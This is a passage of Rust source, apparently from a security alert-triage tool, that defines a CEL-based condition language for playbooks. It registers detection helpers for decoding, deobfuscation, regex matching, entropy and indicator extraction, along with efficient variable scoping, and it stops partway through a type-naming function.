//! The condition language: CEL, compiled once per playbook, with Riposte's detection functions.
//!
//! CEL is side-effect free and always terminates; we add pure functions over strings (decoding,
//! indicator extraction, CIDR and domain sets, cached regexes). Expressions see these variables:
//! `alert` (the ECS alert), `facts` (checks so far), `lookups` (lookup results so far), `vars`
//! (playbook variables, overridable by configuration), `escalation` (once decided), `actions`
//! (earlier action results), `item` (inside `for_each`) and `run` (`id`, `dry_run`).

use crate::funcs;
use cel::common::traits::{Container, Indexer};
use cel::common::types::{
    CelBool, CelDouble, CelInt, CelList, CelMap, CelMapKey, CelNull, CelString, CelUInt,
};
use cel::common::value::{CowVal, Val};
use cel::objects::{Key, Map};
use cel::{Context, ExecutionError, FunctionContext, Value};
use serde_json::Value as Json;
use std::collections::HashMap;
use std::sync::{Arc, LazyLock};

/// The variables an expression may name.
pub const VARIABLES: &[&str] = &[
    "alert",
    "facts",
    "lookups",
    "vars",
    "escalation",
    "actions",
    "item",
    "run",
];

/// A compiled expression and its source.
#[derive(Clone)]
pub struct Expr {
    pub src: String,
    program: Arc<cel::Program>,
    /// The same expression compiled for native evaluation, when it lies in that subset.
    native: Option<Arc<crate::native::Program>>,
}

impl std::fmt::Debug for Expr {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "Expr({:?})", self.src)
    }
}

/// A compile error with the char offset inside the expression where it was found.
#[derive(Debug)]
pub struct CompileError {
    pub offset: usize,
    pub message: String,
}

static ENV: LazyLock<Arc<cel::Env>> = LazyLock::new(|| {
    let mut env = cel::Env::stdlib();
    env.add_extension(cel::extensions::strings)
        .expect("strings extension");
    env.add_extension(cel::extensions::lists)
        .expect("lists extension");
    Arc::new(env)
});

/// The root context holding every function; evaluation scopes borrow it.
pub struct Functions {
    root: Context<'static, 'static>,
}

fn strs(v: &Value) -> Vec<String> {
    match v {
        Value::List(l) => l
            .iter()
            .filter_map(|x| match x {
                Value::String(s) => Some(s.to_string()),
                _ => None,
            })
            .collect(),
        Value::String(s) => vec![s.to_string()],
        _ => Vec::new(),
    }
}

fn list(v: Vec<String>) -> Value {
    Value::List(Arc::new(
        v.into_iter().map(|s| Value::String(Arc::new(s))).collect(),
    ))
}

#[cfg(test)]
fn s(v: impl Into<String>) -> Value {
    Value::String(Arc::new(v.into()))
}

fn re_err(name: &str, e: String) -> ExecutionError {
    ExecutionError::function_error(name, format!("invalid regex: {e}"))
}

/// Truthiness used by `truthy()` and by reports: false, null, "", [], {} and 0 are false.
pub fn truthy(v: &Value) -> bool {
    match v {
        Value::Bool(b) => *b,
        Value::Null => false,
        Value::String(s) => !s.is_empty(),
        Value::List(l) => !l.is_empty(),
        Value::Map(m) => !m.map.is_empty(),
        Value::Int(i) => *i != 0,
        Value::UInt(i) => *i != 0,
        Value::Float(f) => *f != 0.0,
        _ => true,
    }
}

impl Functions {
    fn new() -> Self {
        let mut c = Context::with_env(ENV.clone());
        macro_rules! add {
            ($name:expr, $f:expr) => {
                c.add_function($name, $f)
                    .expect(concat!("function ", $name));
            };
        }
        // Performance: most functions are registered as "native" functions that read their
        // arguments where the interpreter holds them (`&dyn Val`) instead of through cel's
        // argument extractors, which copy every argument into a `Value` first: `get(alert, …)`
        // used to deep-copy the whole alert on every call, `in_list(x, vars.list)` the whole list.
        // Arguments are checked in the same order and with the same errors as the extractors.
        //
        // Strings and paths
        add!("lower", str1(|x| s_val(x.to_lowercase())));
        add!("basename", str1(|x| s_val(funcs::basename(x).to_owned())));
        add!("dirname", str1(|x| s_val(funcs::dirname(x).to_owned())));
        add!(
            "contains_any",
            str_list(|x, l| {
                let h = funcs::lower_cow(x);
                any_str(l, |n| !n.is_empty() && h.contains(&*funcs::lower_cow(n)))
            })
        );
        add!(
            "ends_with_any",
            str_list(|x, l| {
                let x = funcs::lower_cow(x);
                any_str(l, |e| x.ends_with(&*funcs::lower_cow(e)))
            })
        );
        add!(
            "starts_with_any",
            str_list(|x, l| {
                let x = funcs::lower_cow(x);
                any_str(l, |e| x.starts_with(&*funcs::lower_cow(e)))
            })
        );
        add!(
            "in_list",
            str_list(|x, l| {
                let x = funcs::lower_cow(x);
                any_str(l, |e| funcs::lower_cow(e) == x)
            })
        );
        add!("split_args", str1(|x| list_val(funcs::split_args(x))));
        // Regexes, compiled once per thread and pattern
        add!(
            "regex",
            str2(|x, p| funcs::with_regex(p, |r| bool_val(r.is_match(x)))
                .map_err(|e| re_err("regex", e)))
        );
        add!(
            "regex_find",
            str2(|x, p| {
                funcs::with_regex(p, |r| {
                    let m = r.captures(x).map(|c| {
                        c.get(1)
                            .or_else(|| c.get(0))
                            .map(|m| m.as_str().to_owned())
                            .unwrap_or_default()
                    });
                    s_val(m.unwrap_or_default())
                })
                .map_err(|e| re_err("regex_find", e))
            })
        );
        add!(
            "regex_all",
            str2(|x, p| {
                funcs::with_regex(p, |r| {
                    let mut out: Vec<String> = Vec::new();
                    for c in r.captures_iter(x).take(256) {
                        let m = c
                            .get(1)
                            .or_else(|| c.get(0))
                            .map(|m| m.as_str().to_owned())
                            .unwrap_or_default();
                        if !out.contains(&m) {
                            out.push(m);
                        }
                    }
                    list_val(out)
                })
                .map_err(|e| re_err("regex_all", e))
            })
        );
        // Decoding and obfuscation
        add!("decoded", str1(|x| s_val(funcs::decoded(x))));
        add!("deobfuscate", str1(|x| s_val(funcs::deobfuscate(x))));
        add!("strip_comments", str1(|x| s_val(funcs::strip_comments(x))));
        add!(
            "written_then_run",
            str1(|x| s_val(funcs::written_then_run(x)))
        );
        add!(
            "powershell_read_only",
            str1(|x| bool_val(funcs::powershell_read_only(x)))
        );
        add!(
            "b64decode",
            str1(|x| s_val(
                funcs::b64_bytes(x)
                    .and_then(|b| funcs::bytes_to_text(&b))
                    .unwrap_or_default()
            ))
        );
        add!(
            "entropy",
            str1(|x| Box::new(CelDouble::from(funcs::entropy(x))))
        );
        add!(
            "obfuscation_ratio",
            str1(|x| Box::new(CelDouble::from(funcs::obfuscation_ratio(x))))
        );
        // Indicators
        add!("urls", str1(|x| list_val(funcs::urls(x))));
        add!("ips", str1(|x| list_val(funcs::ips(x))));
        add!(
            "url_host",
            str1(|x| s_val(funcs::url_host(x).unwrap_or_default()))
        );
        add!("is_ip", str1(|x| bool_val(funcs::is_ip(x))));
        add!("is_public_ip", str1(|x| bool_val(funcs::is_public_ip(x))));
        add!(
            "ip_in",
            str_list(|x, l| funcs::ip_in_strs(x, &l.collect::<Vec<_>>()))
        );
        add!(
            "domain_in",
            str_list(|x, l| funcs::domain_in_strs(x, &l.collect::<Vec<_>>()))
        );
        // Structure
        add!("get", native(get_native));
        add!(
            "truthy",
            native(|ftx| {
                let v = arg(ftx, 0)?;
                let b = match truthy_val(v) {
                    Some(b) => b,
                    None => truthy(&Value::try_from(v)?),
                };
                Ok(CowVal::Owned(bool_val(b)))
            })
        );
        add!("uniq", |v: Value| {
            let mut out: Vec<Value> = Vec::new();
            if let Value::List(l) = v {
                for x in l.iter() {
                    if !out.contains(x) {
                        out.push(x.clone());
                    }
                }
            }
            Value::List(Arc::new(out))
        });
        add!("flatten_strings", |v: Value| {
            fn walk(v: &Value, out: &mut Vec<String>) {
                match v {
                    Value::String(s) => out.push(s.to_string()),
                    Value::List(l) => l.iter().for_each(|x| walk(x, out)),
                    // In key order: the map's own order changes from process to process.
                    Value::Map(m) => {
                        let mut e: Vec<_> = m.map.iter().collect();
                        e.sort_by_cached_key(|(k, _)| k.to_string());
                        e.into_iter().for_each(|(_, x)| walk(x, out));
                    }
                    _ => {}
                }
            }
            let mut out = Vec::new();
            walk(&v, &mut out);
            list(out)
        });
        Functions { root: c }
    }

    /// Names of the functions we add (for validation hints and docs).
    pub fn names() -> impl Iterator<Item = &'static str> {
        SIGNATURES.iter().map(|(n, _)| *n)
    }
}

/// What a check's value is when its expression cannot be evaluated: the empty value of the
/// kind the expression always gives, so that `facts.x != ''` or `size(facts.x) > 0` reads an
/// unevaluated check as "not found" rather than a null that compares unequal to everything.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    Bool,
    String,
    List,
    Number,
}

impl Kind {
    /// The kind's empty value: false, "", [] or 0.
    pub fn empty(self) -> Value {
        match self {
            Kind::Bool => Value::Bool(false),
            Kind::String => Value::String(Arc::new(String::new())),
            Kind::List => Value::List(Arc::new(Vec::new())),
            Kind::Number => Value::Int(0),
        }
    }

    pub fn name(self) -> &'static str {
        match self {
            Kind::Bool => "a boolean",
            Kind::String => "a string",
            Kind::List => "a list",
            Kind::Number => "a number",
        }
    }

    /// How the empty value reads in a playbook.
    pub fn empty_text(self) -> &'static str {
        match self {
            Kind::Bool => "false",
            Kind::String => "''",
            Kind::List => "[]",
            Kind::Number => "0",
        }
    }

    /// The kind of a value, if it is one of these.
    pub fn of(v: &Value) -> Option<Kind> {
        match v {
            Value::Bool(_) => Some(Kind::Bool),
            Value::String(_) => Some(Kind::String),
            Value::List(_) => Some(Kind::List),
            Value::Int(_) | Value::UInt(_) | Value::Float(_) => Some(Kind::Number),
            _ => None,
        }
    }
}

/// Every function we add with the kind it returns (`None`: it depends on the arguments).
const SIGNATURES: &[(&str, Option<Kind>)] = &[
    ("lower", Some(Kind::String)),
    ("basename", Some(Kind::String)),
    ("dirname", Some(Kind::String)),
    ("contains_any", Some(Kind::Bool)),
    ("ends_with_any", Some(Kind::Bool)),
    ("starts_with_any", Some(Kind::Bool)),
    ("in_list", Some(Kind::Bool)),
    ("split_args", Some(Kind::List)),
    ("regex", Some(Kind::Bool)),
    ("regex_find", Some(Kind::String)),
    ("regex_all", Some(Kind::List)),
    ("decoded", Some(Kind::String)),
    ("deobfuscate", Some(Kind::String)),
    ("strip_comments", Some(Kind::String)),
    ("written_then_run", Some(Kind::String)),
    ("powershell_read_only", Some(Kind::Bool)),
    ("b64decode", Some(Kind::String)),
    ("entropy", Some(Kind::Number)),
    ("obfuscation_ratio", Some(Kind::Number)),
    ("urls", Some(Kind::List)),
    ("ips", Some(Kind::List)),
    ("url_host", Some(Kind::String)),
    ("is_ip", Some(Kind::Bool)),
    ("is_public_ip", Some(Kind::Bool)),
    ("ip_in", Some(Kind::Bool)),
    ("domain_in", Some(Kind::Bool)),
    ("get", None),
    ("truthy", Some(Kind::Bool)),
    ("uniq", Some(Kind::List)),
    ("flatten_strings", Some(Kind::List)),
];

/// The kind an expression always gives, when its shape says so: comparisons, logic, `in`,
/// `has()`, `exists`/`all` and predicates give a boolean; list literals, `map` and `filter`
/// a list; string literals and concatenations with one a string; `get(x, path, default)` its
/// default's kind; a conditional the kind its branches give where they tell and agree. `None` when the shape
/// does not tell (a variable, a fact, a lookup...).
fn kind_of(e: &cel::common::ast::Expr) -> Option<Kind> {
    use cel::common::ast::{Expr as E, LiteralValue as L};
    match e {
        E::Literal(L::Boolean(_)) => Some(Kind::Bool),
        E::Literal(L::String(_)) => Some(Kind::String),
        E::Literal(L::Int(_) | L::UInt(_) | L::Double(_)) => Some(Kind::Number),
        E::List(_) => Some(Kind::List),
        E::Select(s) if s.test => Some(Kind::Bool),
        // `exists`, `all`, `map` and `filter` return their accumulator.
        E::Comprehension(c) => match &c.result.expr {
            E::Ident(n) if *n == c.accu_var => kind_of(&c.accu_init.expr),
            r => kind_of(r),
        },
        E::Call(c) => match c.func_name.as_str() {
            "_&&_" | "_||_" | "!_" | "_==_" | "_!=_" | "_<_" | "_<=_" | "_>_" | "_>=_" | "@in"
            | "matches" | "contains" | "startsWith" | "endsWith" => Some(Kind::Bool),
            "size" | "int" | "uint" | "double" | "indexOf" | "lastIndexOf" => Some(Kind::Number),
            "string" | "lowerAscii" | "upperAscii" | "trim" | "replace" | "substring"
            | "charAt" | "join" | "format" | "quote" => Some(Kind::String),
            "split" | "sort" | "slice" | "distinct" | "flatten" | "reverse" => Some(Kind::List),
            "_?_:_" if c.args.len() == 3 => {
                match (kind_of(&c.args[1].expr), kind_of(&c.args[2].expr)) {
                    (Some(a), Some(b)) if a != b => None,
                    (a, b) => a.or(b),
                }
            }
            // A lookup with a default: what it finds where the default says.
            "get" if c.args.len() == 3 => kind_of(&c.args[2].expr),
            "_+_" if c.args.len() == 2 => {
                let (a, b) = (kind_of(&c.args[0].expr), kind_of(&c.args[1].expr));
                match (a, b) {
                    (Some(Kind::String), _) | (_, Some(Kind::String)) => Some(Kind::String),
                    (Some(Kind::List), _) | (_, Some(Kind::List)) => Some(Kind::List),
                    _ => None,
                }
            }
            f => SIGNATURES
                .iter()
                .find(|(n, _)| *n == f)
                .and_then(|(_, k)| *k),
        },
        _ => None,
    }
}

// ---- Native function plumbing -------------------------------------------------------------

/// A function as cel calls it: arguments already evaluated, borrowed where the interpreter holds
/// them, and a result that may borrow from them.
type NativeFn = Box<
    dyn for<'c, 'k> Fn(&mut FunctionContext<'c, 'k>) -> Result<CowVal<'c, 'k>, ExecutionError>
        + Send
        + Sync,
>;

fn native<F>(f: F) -> NativeFn
where
    F: for<'c, 'k> Fn(&mut FunctionContext<'c, 'k>) -> Result<CowVal<'c, 'k>, ExecutionError>
        + Send
        + Sync
        + 'static,
{
    Box::new(f)
}

/// Argument `i`, with the error cel's extractors give when it is missing.
fn arg<'a, 'k>(
    ftx: &'a FunctionContext<'_, 'k>,
    i: usize,
) -> Result<&'a (dyn Val + 'k), ExecutionError> {
    ftx.args
        .get(i)
        .map(|a| a.as_ref())
        .ok_or_else(|| ExecutionError::invalid_argument_count(i + 1, ftx.args.len()))
}

/// A string argument, borrowed (the `Arc<String>` extractor copied it), with its error.
fn str_arg<'a>(ftx: &'a FunctionContext<'_, '_>, i: usize) -> Result<&'a str, ExecutionError> {
    let v = arg(ftx, i)?;
    v.downcast_ref::<CelString>()
        .map(|s| s.inner())
        .ok_or_else(|| ExecutionError::UnexpectedType {
            got: format!("{v:?}"),
            want: "Arc<String>".to_string(),
        })
}

fn str1<F>(f: F) -> NativeFn
where
    F: Fn(&str) -> Box<dyn Val> + Send + Sync + 'static,
{
    native(move |ftx| Ok(CowVal::Owned(f(str_arg(ftx, 0)?))))
}

fn str2<F>(f: F) -> NativeFn
where
    F: Fn(&str, &str) -> Result<Box<dyn Val>, ExecutionError> + Send + Sync + 'static,
{
    native(move |ftx| {
        let x = str_arg(ftx, 0)?;
        let p = str_arg(ftx, 1)?;
        Ok(CowVal::Owned(f(x, p)?))
    })
}

/// `f(x, strings)` for a string and a list argument: the strings of the list (or the string
/// itself) are borrowed, without collecting them; other elements are skipped, as `strs` does on
/// a `Value`. Anything but a plain string or list goes through `Value`, as the extractor did.
fn str_list<F>(f: F) -> NativeFn
where
    F: Fn(&str, &mut dyn Iterator<Item = &str>) -> bool + Send + Sync + 'static,
{
    native(move |ftx| {
        let x = str_arg(ftx, 0)?;
        let v = arg(ftx, 1)?;
        let b = if let Some(l) = v.downcast_ref::<CelList>() {
            f(
                x,
                &mut l
                    .inner()
                    .iter()
                    .filter_map(|e| e.downcast_ref::<CelString>().map(|s| s.inner())),
            )
        } else if let Some(s) = v.downcast_ref::<CelString>() {
            f(x, &mut std::iter::once(s.inner()))
        } else {
            let owned = strs(&Value::try_from(v)?);
            f(x, &mut owned.iter().map(String::as_str))
        };
        Ok(CowVal::Owned(bool_val(b)))
    })
}

/// `Iterator::any` for the `dyn` iterators `str_list` hands out.
fn any_str(l: &mut dyn Iterator<Item = &str>, mut p: impl FnMut(&str) -> bool) -> bool {
    for s in l {
        if p(s) {
            return true;
        }
    }
    false
}

fn s_val(s: String) -> Box<dyn Val> {
    Box::new(CelString::from(s))
}

fn bool_val(b: bool) -> Box<dyn Val> {
    Box::new(CelBool::from(b))
}

fn list_val(v: Vec<String>) -> Box<dyn Val> {
    Box::new(CelList::from(
        v.into_iter()
            .map(|s| Box::new(CelString::from(s)) as Box<dyn Val>)
            .collect::<Vec<_>>(),
    ))
}

/// `get(map, 'a.b.c', default)`: follows string keys through maps. When the map is borrowed (a
/// variable such as `alert`), the result is borrowed from it too: nothing is copied.
fn get_native<'c, 'k>(ftx: &mut FunctionContext<'c, 'k>) -> Result<CowVal<'c, 'k>, ExecutionError> {
    // Same checks, in the same order, as the `(Value, Arc<String>, Value)` extractors.
    arg(ftx, 0)?;
    str_arg(ftx, 1)?;
    arg(ftx, 2)?;
    let mut args = std::mem::take(&mut ftx.args).into_iter();
    let (m, path, default) = match (args.next(), args.next(), args.next()) {
        (Some(m), Some(p), Some(d)) => (m, p, d),
        _ => unreachable!("checked above"),
    };
    let path = path
        .downcast_ref::<CelString>()
        .map(|s| s.inner())
        .unwrap_or_default();
    Ok(match m {
        CowVal::Borrowed(b) => match val_path(b, path) {
            Some(v) => CowVal::Borrowed(v),
            None => default,
        },
        CowVal::Owned(o) => match val_path(o.as_ref(), path) {
            Some(v) => CowVal::Owned(v.clone_as_boxed()),
            None => default,
        },
    })
}

/// `get()`'s walk: `path`'s keys followed through maps; a missing key, a non-map on the way or a
/// final null is `None`.
pub(crate) fn val_path<'b, 'k>(
    mut v: &'b (dyn Val + 'k),
    path: &str,
) -> Option<&'b (dyn Val + 'k)> {
    for part in path.split('.') {
        let m = v.downcast_ref::<CelMap>()?;
        // `contains` first: a miss through `get` would build an error (allocations) only
        // for us to drop it. The key borrows `part`, so neither lookup allocates.
        let k = CelString::from(part);
        if !m.contains(&k).ok()? {
            return None;
        }
        match m.get(&k).ok()? {
            CowVal::Borrowed(x) => v = x,
            CowVal::Owned(_) => return None,
        }
    }
    // A field present but null (damaged or partial records) reads as missing: the
    // default, so one null field cannot turn every check built on it into an error.
    if v.downcast_ref::<CelNull>().is_some() {
        return None;
    }
    Some(v)
}

/// `truthy` on a `Val`; `None` for the kinds `truthy` only knows through `Value`.
fn truthy_val(v: &dyn Val) -> Option<bool> {
    Some(if let Some(b) = v.downcast_ref::<CelBool>() {
        *b.inner()
    } else if v.downcast_ref::<CelNull>().is_some() {
        false
    } else if let Some(s) = v.downcast_ref::<CelString>() {
        !s.inner().is_empty()
    } else if let Some(l) = v.downcast_ref::<CelList>() {
        !l.inner().is_empty()
    } else if let Some(m) = v.downcast_ref::<CelMap>() {
        !m.inner().is_empty()
    } else if let Some(i) = v.downcast_ref::<CelInt>() {
        *i.inner() != 0
    } else if let Some(u) = v.downcast_ref::<CelUInt>() {
        *u.inner() != 0
    } else if let Some(f) = v.downcast_ref::<CelDouble>() {
        *f.inner() != 0.0
    } else {
        return None;
    })
}

static FUNCTIONS: LazyLock<Functions> = LazyLock::new(Functions::new);

/// `RIPOSTE_EXPR_ENGINE=cel`: every expression is evaluated by `cel`'s interpreter (to compare
/// speed, or should native evaluation ever be in doubt).
static ENGINE_NATIVE: LazyLock<bool> =
    LazyLock::new(|| std::env::var("RIPOSTE_EXPR_ENGINE").as_deref() != Ok("cel"));

/// `RIPOSTE_EXPR_CROSSCHECK` set (to anything but `0`): every native evaluation is repeated by
/// `cel` and the two compared.
static CROSSCHECK: LazyLock<bool> = LazyLock::new(|| {
    std::env::var("RIPOSTE_EXPR_CROSSCHECK").is_ok_and(|v| !v.is_empty() && v != "0")
});

/// Variables bound for evaluations. Each value is converted to CEL's internal form once, when it
/// is set, and lent to every evaluation through a resolver (no per-evaluation deep copy).
#[derive(Default, Clone)]
pub struct Scope {
    vars: Vec<(&'static str, Slot)>,
}

#[derive(Clone)]
enum Slot {
    Own(Box<dyn Val>),
    /// Converted once and shared by every run (the playbook's `vars`).
    Shared(Arc<dyn Val>),
    /// A map grown one entry at a time (`facts`, `lookups`, `actions`): adding an entry converts
    /// that entry only. Re-converting the whole map after each check made a run quadratic.
    Map(CelMap<'static>),
}

impl Slot {
    fn val(&self) -> &(dyn Val + 'static) {
        match self {
            Slot::Own(b) => b.as_ref(),
            Slot::Shared(a) => a.as_ref(),
            Slot::Map(m) => m,
        }
    }
}

/// A `Value` in CEL's internal form (null if it has none, as `Scope::set` always did).
pub fn to_val(v: Value) -> Box<dyn Val> {
    match Box::<dyn Val>::try_from(v) {
        Ok(b) => b,
        Err(_) => Box::new(CelNull),
    }
}

impl Scope {
    fn slot(&mut self, name: &'static str, s: Slot) {
        if let Some(slot) = self.vars.iter_mut().find(|(n, _)| *n == name) {
            slot.1 = s;
        } else {
            self.vars.push((name, s));
        }
    }

    pub fn set(&mut self, name: &'static str, v: Value) {
        self.slot(name, Slot::Own(to_val(v)));
    }

    /// Binds a value already in CEL's internal form.
    pub fn set_val(&mut self, name: &'static str, v: Box<dyn Val>) {
        self.slot(name, Slot::Own(v));
    }

    /// Binds a value shared with other scopes (converted once, never copied).
    pub fn set_shared(&mut self, name: &'static str, v: Arc<dyn Val>) {
        self.slot(name, Slot::Shared(v));
    }

    /// Makes `name` a map, empty unless it already is one.
    pub fn ensure_map(&mut self, name: &'static str) {
        if !self
            .vars
            .iter()
            .any(|(n, s)| *n == name && matches!(s, Slot::Map(_)))
        {
            self.slot(name, Slot::Map(CelMap::default()));
        }
    }

    /// Binds `name` to an empty map with room for `capacity` entries (no rehash as it grows).
    pub fn new_map(&mut self, name: &'static str, capacity: usize) {
        self.slot(
            name,
            Slot::Map(CelMap::from(HashMap::with_capacity(capacity))),
        );
    }

    /// Sets `name.key` (making `name` a map first if needed).
    pub fn insert(&mut self, name: &'static str, key: &str, v: Box<dyn Val>) {
        self.ensure_map(name);
        let Some((_, Slot::Map(m))) = self.vars.iter_mut().find(|(n, _)| *n == name) else {
            unreachable!("ensured above")
        };
        // Moves the entries out and back: no entry is copied.
        let mut entries = std::mem::take(m).into_inner();
        entries.insert(CelMapKey::from(key.to_owned()), v);
        *m = CelMap::from(entries);
    }
}

impl Scope {
    /// The value bound to `name`, as the interpreter holds it.
    pub(crate) fn get(&self, name: &str) -> Option<&(dyn Val + 'static)> {
        self.vars
            .iter()
            .find(|(n, _)| *n == name)
            .map(|(_, v)| v.val())
    }
}

impl Scope {
    /// The value bound to `name` when it is shared between runs (the playbook's own `vars`).
    pub(crate) fn shared(&self, name: &str) -> Option<&Arc<dyn Val>> {
        self.vars
            .iter()
            .find(|(n, _)| *n == name)
            .and_then(|(_, v)| match v {
                Slot::Shared(a) => Some(a),
                _ => None,
            })
    }
}

impl cel::context::VariableResolver for Scope {
    fn resolve<'b>(&'b self, variable: &str) -> Option<CowVal<'b, 'b>> {
        self.vars
            .iter()
            .find(|(n, _)| *n == variable)
            .map(|(_, v)| CowVal::Borrowed(v.val()))
    }
}

/// JSON straight to CEL's internal form (what `from_json` then `Scope::set` gave, in one pass).
pub fn json_to_val(j: &Json) -> Box<dyn Val> {
    match j {
        Json::Null => Box::new(CelNull),
        Json::Bool(b) => Box::new(CelBool::from(*b)),
        Json::Number(n) => {
            if let Some(i) = n.as_i64() {
                Box::new(CelInt::from(i))
            } else if let Some(u) = n.as_u64() {
                Box::new(CelUInt::from(u))
            } else {
                Box::new(CelDouble::from(n.as_f64().unwrap_or(0.0)))
            }
        }
        Json::String(s) => Box::new(CelString::from(s.clone())),
        Json::Array(a) => Box::new(CelList::from(a.iter().map(json_to_val).collect::<Vec<_>>())),
        Json::Object(o) => Box::new(CelMap::from(
            o.iter()
                .map(|(k, v)| (CelMapKey::from(k.clone()), json_to_val(v)))
                .collect::<HashMap<_, _>>(),
        )),
    }
}

impl Expr {
    pub fn compile(src: &str) -> Result<Expr, CompileError> {
        match ENV.compile(src) {
            Ok(p) => Ok(Expr {
                src: src.to_owned(),
                native: crate::native::Program::compile(p.expression()).map(Arc::new),
                program: Arc::new(p),
            }),
            Err(e) => {
                let first = e.errors.first();
                let offset = first
                    .map(|x| line_col_to_offset(src, x.pos.0, x.pos.1))
                    .unwrap_or(0);
                let message = first
                    .map(|x| x.msg.clone())
                    .unwrap_or_else(|| e.to_string());
                Err(CompileError { offset, message })
            }
        }
    }

    /// Top-level variables this expression names.
    pub fn variables(&self) -> Vec<String> {
        self.program
            .references()
            .variables()
            .into_iter()
            .map(|s| s.to_string())
            .collect()
    }

    /// Functions this expression calls.
    pub fn functions(&self) -> Vec<String> {
        self.program
            .references()
            .functions()
            .into_iter()
            .map(|s| s.to_string())
            .collect()
    }

    /// The kind this expression always gives, when its shape says so (see [`Kind`]).
    pub fn kind(&self) -> Option<Kind> {
        kind_of(&self.program.expression().expr)
    }

    /// Adds to `u` the parts of `alert` this expression can reach.
    pub fn alert_use(&self, u: &mut AlertUse) {
        alert_walk(self.program.expression(), u);
    }

    pub fn eval(&self, scope: &Scope) -> Result<Value, String> {
        match &self.native {
            Some(n) if *ENGINE_NATIVE => {
                let v = n.eval(scope).and_then(crate::native::V::into_value);
                if *CROSSCHECK {
                    self.crosscheck(scope, &v);
                }
                v
            }
            _ => self.eval_cel(scope),
        }
    }

    /// Whether this expression is evaluated natively (see `native`).
    pub fn is_native(&self) -> bool {
        self.native.is_some()
    }

    /// Compares a native result with `cel`'s; a difference is a bug in `native`, reported on
    /// standard error with both results.
    fn crosscheck(&self, scope: &Scope, native: &Result<Value, String>) {
        let cel = self.eval_cel(scope);
        let same = match (native, &cel) {
            (Ok(a), Ok(b)) => a == b,
            (Err(_), Err(_)) => true,
            _ => false,
        };
        if !same {
            let msg = format!(
                "native evaluation differs from cel for `{}`: native {native:?}, cel {cel:?}",
                self.src
            );
            eprintln!("{msg}");
        }
    }

    /// Evaluates with `cel`'s interpreter.
    pub fn eval_cel(&self, scope: &Scope) -> Result<Value, String> {
        let mut ctx = FUNCTIONS.root.new_inner_scope();
        ctx.set_variable_resolver(scope);
        self.program.execute(&ctx).map_err(|e| e.to_string())
    }

    /// Evaluates a condition: anything but `true` is false; errors are returned for the report.
    pub fn eval_bool(&self, scope: &Scope) -> Result<bool, String> {
        match self.eval(scope)? {
            Value::Bool(b) => Ok(b),
            other => Err(format!(
                "condition must be true or false, got {}",
                type_name(&other)
            )),
        }
    }
}

/// The parts of `alert` a set of expressions can reach: alerts carry far more than any playbook
/// reads (raw event fields next to their ECS copies), and converting all of it for every run
/// showed in profiles. A trie of key paths; at a `whole` node the value is needed entire.
///
/// The analysis is conservative: `alert.a.b` (also inside `has()`) needs `a.b` whole,
/// `get(alert…, 'x.y', d)` with a literal path needs that path whole, and any other use of
/// `alert` (passed to a function, indexed, iterated, shadowed by a macro variable...) needs all
/// of it. Maps on the way to a needed path keep only the needed keys: they can only be reached
/// by those lookups, which find exactly what they would in the full alert.
#[derive(Debug, Default)]
pub struct AlertUse {
    whole: bool,
    children: std::collections::BTreeMap<String, AlertUse>,
}

impl AlertUse {
    fn add(&mut self, path: &[String]) {
        if self.whole {
            return;
        }
        match path.split_first() {
            None => {
                self.whole = true;
                self.children.clear();
            }
            Some((k, rest)) => self.children.entry(k.clone()).or_default().add(rest),
        }
    }

    /// The alert in CEL's internal form, holding what these expressions can reach.
    pub fn to_val(&self, alert: &Json) -> Box<dyn Val> {
        if self.whole {
            return json_to_val(alert);
        }
        match alert {
            Json::Object(o) => Box::new(CelMap::from(
                self.children
                    .iter()
                    .filter_map(|(k, u)| {
                        o.get(k).map(|v| (CelMapKey::from(k.clone()), u.to_val(v)))
                    })
                    .collect::<HashMap<_, _>>(),
            )),
            // Not a map: lookups into it fail the same way whatever it holds.
            other => json_to_val(other),
        }
    }
}

fn is_alert(name: &str) -> bool {
    name == "alert" || name == ".alert"
}

/// `alert.a.b` (or `has(alert.a.b)`) as its path `[a, b]`; `alert` alone is `[]`.
fn alert_chain(e: &cel::common::ast::Expr) -> Option<Vec<String>> {
    use cel::common::ast::Expr as E;
    let mut fields = Vec::new();
    let mut cur = e;
    loop {
        match cur {
            E::Select(s) => {
                fields.push(s.field.clone());
                cur = &s.operand.expr;
            }
            E::Ident(n) if is_alert(n) => {
                fields.reverse();
                return Some(fields);
            }
            _ => return None,
        }
    }
}

fn alert_walk(e: &cel::IdedExpr, u: &mut AlertUse) {
    use cel::common::ast::{EntryExpr, Expr as E, LiteralValue};
    if u.whole {
        return;
    }
    if let Some(p) = alert_chain(&e.expr) {
        u.add(&p);
        return;
    }
    match &e.expr {
        E::Call(c) => {
            if c.func_name == "get"
                && c.target.is_none()
                && c.args.len() == 3
                && let (Some(mut p), E::Literal(LiteralValue::String(path))) =
                    (alert_chain(&c.args[0].expr), &c.args[1].expr)
            {
                p.extend(path.inner().split('.').map(str::to_owned));
                u.add(&p);
                alert_walk(&c.args[2], u);
                return;
            }
            if let Some(t) = &c.target {
                alert_walk(t, u);
            }
            for a in &c.args {
                alert_walk(a, u);
            }
        }
        E::Comprehension(c) => {
            if is_alert(&c.iter_var)
                || is_alert(&c.accu_var)
                || c.iter_var2.as_deref().is_some_and(is_alert)
            {
                u.add(&[]);
                return;
            }
            for x in [
                &c.iter_range,
                &c.accu_init,
                &c.loop_cond,
                &c.loop_step,
                &c.result,
            ] {
                alert_walk(x, u);
            }
        }
        E::List(l) => l.elements.iter().for_each(|x| alert_walk(x, u)),
        E::Map(m) => m.entries.iter().for_each(|x| entry_walk(&x.expr, u)),
        E::Struct(st) => st.entries.iter().for_each(|x| entry_walk(&x.expr, u)),
        E::Select(s) => alert_walk(&s.operand, u),
        E::Ident(_) | E::Literal(_) | E::Unspecified => {}
    }
    fn entry_walk(e: &EntryExpr, u: &mut AlertUse) {
        match e {
            EntryExpr::MapEntry(me) => {
                alert_walk(&me.key, u);
                alert_walk(&me.value, u);
            }
            EntryExpr::StructField(f) => alert_walk(&f.value, u),
        }
    }
}

/// CEL parse positions are (1-based line, 0-based column); we want a char offset.
fn line_col_to_offset(src: &str, line: isize, col: isize) -> usize {
    let mut off = 0usize;
    for (i, l) in src.split('\n').enumerate() {
        if i as isize + 1 == line {
            return off + (col.max(0) as usize).min(l.chars().count());
        }
        off += l.chars().count() + 1;
    }
    0
}

pub fn type_name(v: &Value) -> &'static str {
    match v {
        Value::List(_) => "a list",
        Value::Map(_) => "a map",
        Value::Int(_) | Value::UInt(_) => "an integer",
